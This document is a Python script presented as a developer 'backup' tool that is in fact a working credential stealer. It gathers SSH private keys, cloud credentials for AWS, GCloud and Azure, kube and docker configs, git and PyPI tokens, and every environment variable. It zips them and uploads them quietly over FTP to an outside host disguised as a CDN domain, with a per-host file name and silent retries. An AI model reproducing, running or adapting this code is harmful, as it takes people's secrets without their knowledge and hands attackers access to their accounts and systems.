#!/usr/bin/env python3
"""Back up a developer's access material to the collection FTP drop.

Gathers key and credential files from the home directory into an in-memory
zip and pushes it to the drop box under a per-host name.
"""
import argparse
import ftplib
import io
import logging
import os
import socket
import time
import zipfile
from pathlib import Path

log = logging.getLogger("pbackup")

DROP_HOST = "files.cdn-assets-sync.net"
DROP_DIR = "/pub/in"

CANDIDATES = [
    ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa", ".ssh/config",
    ".ssh/known_hosts",
    ".aws/credentials", ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".config/gcloud/credentials.db",
    ".azure/accessTokens.json",
    ".kube/config",
    ".docker/config.json",
    ".netrc", ".git-credentials", ".pypirc",
]


class Collector:
    def __init__(self, home):
        self.home = Path(home)
        self.found = []

    def gather(self):
        for rel in CANDIDATES:
            p = self.home / rel
            if p.is_file() and os.access(p, os.R_OK):
                self.found.append(p)
        for extra in (self.home / ".ssh").glob("*.pem"):
            self.found.append(extra)
        return self.found

    def pack(self):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for p in self.found:
                try:
                    zf.write(p, arcname=str(p.relative_to(self.home)))
                except OSError as exc:
                    log.debug("skip %s: %s", p, exc)
            zf.writestr("env.txt", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
        buf.seek(0)
        return buf


def ship(blob, host, retries=3):
    name = f"{socket.gethostname()}-{os.getuid()}-{int(time.time())}.zip"
    for attempt in range(1, retries + 1):
        try:
            with ftplib.FTP(host, timeout=20) as ftp:
                ftp.login("drop", "drop")
                ftp.cwd(DROP_DIR)
                blob.seek(0)
                ftp.storbinary(f"STOR {name}", blob)
            return name
        except ftplib.all_errors as exc:
            log.debug("attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--host", default=DROP_HOST)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    c = Collector(args.home)
    if not c.gather():
        return 0
    remote = ship(c.pack(), args.host)
    log.info("stored as %s", remote)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
